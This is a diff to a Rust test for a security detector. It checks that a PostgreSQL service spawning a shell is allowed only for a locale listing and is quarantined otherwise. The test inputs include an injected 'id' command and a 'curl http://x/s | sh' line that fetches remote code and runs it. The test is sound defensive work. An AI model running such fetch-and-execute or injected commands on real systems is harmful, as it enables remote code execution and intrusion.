@@ -187,6 +187,15 @@ fn services_spawning_shells_are_quarantined() {
         assert!(exec_hits(&p, "/usr/bin/logger", Some(parent), false).is_empty());
     }
     assert!(exec_hits(&p, "/usr/bin/bash", Some("/usr/bin/node"), false).is_empty());
+    // initdb's bootstrap backend lists the locales through a shell; any other command is held.
+    let postgres = Some("/usr/lib/postgresql/15/bin/postgres");
+    let with_cmdline = |cmdline| {
+        let ctx = ExecContext { path: "/bin/sh", sha256: None, parent_exe: postgres, stdio_socket: false, parent_stdio_socket: false, image_changed_secs_ago: None, downloaded_by: None, cmdline: Some(cmdline) };
+        p.exec_rules(&ctx).iter().map(RuleRef::owned).collect::<Vec<_>>()
+    };
+    assert!(with_cmdline("sh -c locale -a").is_empty());
+    assert_eq!(with_cmdline("sh -c id; locale -a"), hit("service-spawns-shell", Action::Quarantine));
+    assert_eq!(with_cmdline("sh -c curl http://x/s | sh"), hit("service-spawns-shell", Action::Quarantine));
 }
 
 #[test]
